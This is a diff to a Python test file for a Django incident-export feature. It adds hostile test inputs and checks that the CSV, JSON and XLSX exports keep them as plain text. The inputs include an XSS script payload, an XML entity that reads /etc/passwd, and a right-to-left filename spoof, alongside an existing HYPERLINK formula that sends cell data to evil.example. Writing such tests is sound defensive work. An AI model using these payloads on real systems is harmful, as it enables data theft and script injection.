@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import re
 import zipfile
 from datetime import UTC, datetime
 from xml.etree import ElementTree
@@ -22,6 +23,21 @@ pytestmark = pytest.mark.django_db
 FILE = "admin:incidents_incident_export_file"
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
+
+HOSTILE = [
+    "\"'><img src=x onerror=alert(1)><script>alert(1)</script>",
+    "]]></t></c><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
+    'two\r\nlines, "quoted"; and\ttabs',
+    "bell\x07 escape\x1b[31m end",
+    "no character \ufffe\uffff",
+    "right to left \u202egnp.exe",
+]
+# How a sheet writes what XML has no place for.
+ESCAPED = re.compile(r"_x([0-9A-F]{4})_")
+
+
+def unescaped(match):
+    return chr(int(match[1], 16))
 
 
 @pytest.fixture
@@ -162,6 +178,17 @@ class TestFormats:
         assert table(client, columns=("title",))[1] == [f"'{title}"]
         assert cells(fetch(client, "xlsx", ("title",)))[1] == [title]
         assert json.loads(fetch(client, "json", ("title",))) == [{"title": title}]
+
+    @pytest.mark.parametrize("text", HOSTILE)
+    def test_no_text_breaks_the_file_or_becomes_markup(self, client, responder, project, text):
+        kind = TagType.objects.create(project=project, name="asset")
+        tag = Tag.objects.create(project=project, tag_type=kind, name=text)
+        make.declare(project, title=text, description=text, tags=[tag])
+        columns = ("title", "description", "tags")
+
+        assert table(client, columns=columns)[1] == [text] * 3
+        assert json.loads(fetch(client, "json", columns)) == [{"title": text, "description": text, "tags": [text]}]
+        assert [ESCAPED.sub(unescaped, cell) for cell in cells(fetch(client, "xlsx", columns))[1]] == [text] * 3
 
     @pytest.mark.parametrize("text", ["", "plain", "a = b", "mail@example.com", "  "])
     def test_harmless_texts_stay_as_they_are(self, text):
